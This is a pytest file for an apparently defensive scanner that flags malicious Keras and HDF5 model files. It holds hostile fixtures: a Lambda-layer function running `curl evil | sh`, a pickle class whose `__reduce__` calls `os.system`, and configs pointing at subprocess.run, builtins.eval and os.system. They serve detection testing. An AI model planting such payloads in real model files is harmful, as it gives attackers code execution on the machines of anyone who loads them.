"""Keras analyzer: .keras zips and legacy HDF5, every rule both ways, hostile inputs."""

from __future__ import annotations

import os
import pickle

from builders import keras_files as kf
from conftest import assert_fires, assert_silent, scan_bytes
from trojanguard.analyzers._marshal import summarize_code
from trojanguard.errors import MalformedInput
from trojanguard.model import Severity


def _evil(x):  # noqa: ANN001, ANN202 - fixture body, never called
    import os as o

    o.system("curl evil | sh")
    return x


class _Boom:
    def __reduce__(self):  # noqa: ANN204
        return (os.system, ("id",))


def test_clean_keras_zip_is_silent() -> None:
    result = scan_bytes(kf.keras_zip(kf.functional([kf.dense()])), "model.keras")
    assert_silent(result, "KER001")
    assert_silent(result, "KER002")
    assert_silent(result, "KER003")
    assert not result[1], result[1]


def test_lambda_with_os_system_is_critical() -> None:
    result = scan_bytes(kf.keras_zip(kf.functional([kf.dense(), kf.lambda_v3(_evil)])), "model.keras")
    found = assert_fires(result, "KER001", min_severity=Severity.CRITICAL, contains="system")
    assert "curl evil | sh" in repr(found[0].evidence)


def test_harmless_lambda_is_high_not_critical() -> None:
    result = scan_bytes(kf.keras_zip(kf.functional([kf.lambda_v3(lambda x: x * 2)])), "model.keras")
    found = assert_fires(result, "KER001", min_severity=Severity.HIGH)
    assert all(f.severity == Severity.HIGH for f in found)


def test_lambda_in_nested_model_is_found() -> None:
    inner = kf.functional([kf.lambda_v3(_evil, "inner_lambda")], name="inner")
    result = scan_bytes(kf.keras_zip(kf.functional([kf.dense(), inner])), "model.keras")
    assert_fires(result, "KER001", contains="inner_lambda")


def test_undecodable_lambda_is_still_reported() -> None:
    layer = kf.lambda_v3(lambda x: x)
    layer["config"]["function"]["config"]["code"] = "!!!notbase64marshal"
    result = scan_bytes(kf.keras_zip(kf.functional([layer])), "model.keras")
    assert_fires(result, "KER001", contains="could not be decoded")


def test_module_outside_keras_is_flagged() -> None:
    bad = {"module": "subprocess", "class_name": "function", "config": "run", "registered_name": "function"}
    result = scan_bytes(kf.keras_zip(kf.functional([kf.dense(), bad])), "model.keras")
    assert_fires(result, "KER002", min_severity=Severity.CRITICAL, contains="subprocess.run")


def test_builtins_eval_activation_is_critical() -> None:
    layer = kf.dense()
    layer["config"]["activation"] = {"module": "builtins", "class_name": "function", "config": "eval",
                                     "registered_name": "function"}
    result = scan_bytes(kf.keras_zip(kf.functional([layer])), "model.keras")
    assert_fires(result, "KER002", min_severity=Severity.CRITICAL, contains="builtins.eval")


def test_custom_registered_object_is_medium() -> None:
    layer = {"module": None, "class_name": "MyLayer", "registered_name": "MyPackage>MyLayer", "config": {}}
    result = scan_bytes(kf.keras_zip(kf.functional([layer])), "model.keras")
    assert_fires(result, "KER002", contains="MyPackage>MyLayer")


def test_torch_module_wrapper_and_unsafe_deserialization() -> None:
    wrapper = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "tw"}}
    unsafe = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}
    result = scan_bytes(kf.keras_zip(kf.functional([wrapper, unsafe])), "model.keras")
    assert_fires(result, "KER003", min_severity=Severity.CRITICAL, contains="TorchModuleWrapper")
    assert_fires(result, "KER003", contains="enable_unsafe_deserialization")


def test_get_file_and_tfop_io() -> None:
    getfile = {"module": "keras.utils", "class_name": "function", "config": "get_file"}
    tfop = {"class_name": "TFOpLambda", "config": {"name": "w", "function": "io.write_file"}}
    result = scan_bytes(kf.keras_zip(kf.functional([getfile, tfop])), "model.keras")
    assert_fires(result, "KER003", contains="get_file")
    assert_fires(result, "KER003", contains="io.write_file")


def test_benign_tfop_is_silent() -> None:
    tfop = {"class_name": "TFOpLambda", "config": {"name": "add", "function": "math.add"}}
    result = scan_bytes(kf.keras_zip(kf.functional([tfop])), "model.keras")
    assert_silent(result, "KER003")


def test_pickle_hidden_in_keras_zip_is_still_scanned() -> None:
    data = kf.keras_zip(kf.functional([kf.dense()]), extra={"assets/evil.pkl": pickle.dumps(_Boom())})
    result = scan_bytes(data, "model.keras")
    assert any(f.rule.id.startswith("PKL") and "evil.pkl" in str(f.location) for f in result[0]), result[0]


def test_legacy_h5_lambda_and_clean_weights() -> None:
    result = scan_bytes(kf.legacy_h5({"class_name": "Sequential", "config": {"layers": [kf.lambda_v2(_evil)]}}),
                        "model.h5")
    assert_fires(result, "KER001", min_severity=Severity.CRITICAL)
    clean = scan_bytes(kf.legacy_h5(None), "weights.h5")
    assert_silent(clean, "KER001")
    assert not clean[0] and not clean[1], clean


def test_legacy_h5_training_config_is_checked() -> None:
    training = {"loss": {"module": "os", "class_name": "function", "config": "system"}}
    result = scan_bytes(kf.legacy_h5({"class_name": "Sequential", "config": {"layers": []}}, training), "m.h5")
    assert_fires(result, "KER002", contains="os.system")


def test_hostile_inputs_never_crash() -> None:
    zipped = kf.keras_zip(kf.functional([kf.dense()]))
    for data in (zipped[: len(zipped) // 2], zipped[:40], b"\x89HDF\r\n\x1a\n" + b"\x00" * 100):
        findings, errors, _ = scan_bytes(data, "model.keras")
        assert all(e.kind != "internal" for e in errors), errors
    bad_json = kf.keras_zip({})
    bad_json = bad_json.replace(b"{}", b"{[", 1)
    _, errors, _ = scan_bytes(bad_json, "model.keras")
    assert all(e.kind != "internal" for e in errors), errors


def test_marshal_reader_rejects_garbage() -> None:
    import marshal

    for data in (b"", b"c", b"\xe3" + b"\x00" * 10, marshal.dumps((1, 2, 3)), b"(\xff\xff\xff\x7f"):
        try:
            summarize_code(data)
        except MalformedInput:
            continue
        raise AssertionError(f"accepted {data!r}")


def test_stored_members_are_windows_and_still_scanned() -> None:
    import io
    import json
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("metadata.json", "{}")
        zf.writestr("config.json", json.dumps(kf.functional([kf.dense()])))
        zf.writestr("model.weights.h5", kf.weights_h5())
        zf.writestr("assets/x.pkl", pickle.dumps(_Boom()))
    findings, errors, _ = scan_bytes(buf.getvalue(), "model.keras")
    assert not errors, errors
    assert any(f.rule.id.startswith("PKL") and "x.pkl" in str(f.location) for f in findings), findings
    assert_silent(findings, "KER001")


def test_mutated_keras_tf_tflite_inputs_never_crash() -> None:
    """Deterministic byte mutations and truncations of every fixture kind of this issue."""
    import random

    from builders import tf_files as tf
    from builders import tflite_files as tl

    seeds = {
        "m.keras": kf.keras_zip(kf.functional([kf.dense(), kf.lambda_v3(_evil)])),
        "m.h5": kf.legacy_h5({"class_name": "Sequential", "config": {"layers": [kf.lambda_v2(_evil)]}}),
        "saved_model.pb": tf.saved_model(tf.graphdef([tf.node("r", "ReadFile")], tf.standard_saver_functions())),
        "keras_metadata.pb": tf.keras_metadata([kf.lambda_v2(_evil)]),
        "m.tflite": tl.tflite_model([(3, None), (32, "FlexPyFunc"), (32, "X")], 64),
    }
    rnd = random.Random(7)
    for name, data in seeds.items():
        for _ in range(60):
            mutated = bytearray(data)
            for _ in range(rnd.randint(1, 8)):
                mutated[rnd.randrange(len(mutated))] = rnd.randrange(256)
            if rnd.random() < 0.3:
                mutated = mutated[: rnd.randrange(len(mutated))]
            _, errors, _ = scan_bytes(bytes(mutated), name)
            assert all(e.kind != "internal" for e in errors), (name, errors)


def test_duplicate_config_json_every_view_is_checked() -> None:
    import io
    import json
    import warnings
    import zipfile

    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as zf:
        warnings.simplefilter("ignore")
        zf.writestr("metadata.json", "{}")
        zf.writestr("config.json", json.dumps(kf.functional([kf.dense()])))
        zf.writestr("config.json", json.dumps(kf.functional([kf.lambda_v3(_evil, "shadow")])))
    result = scan_bytes(buf.getvalue(), "model.keras")
    assert_fires(result, "KER001", contains="shadow")


def test_tensorflow_math_function_is_medium_and_io_is_high() -> None:
    gelu = {"module": "tensorflow.python.ops.nn_ops", "class_name": "function", "config": "gelu"}
    write = {"module": "tensorflow.io", "class_name": "function", "config": "write_file"}
    result = scan_bytes(kf.keras_zip(kf.functional([gelu, write])), "model.keras")
    found = assert_fires(result, "KER002")
    by_target = {dict(f.evidence)["target"]: f.severity for f in found}
    assert by_target["tensorflow.python.ops.nn_ops.gelu"] == Severity.MEDIUM
    assert by_target["tensorflow.io.write_file"] == Severity.HIGH
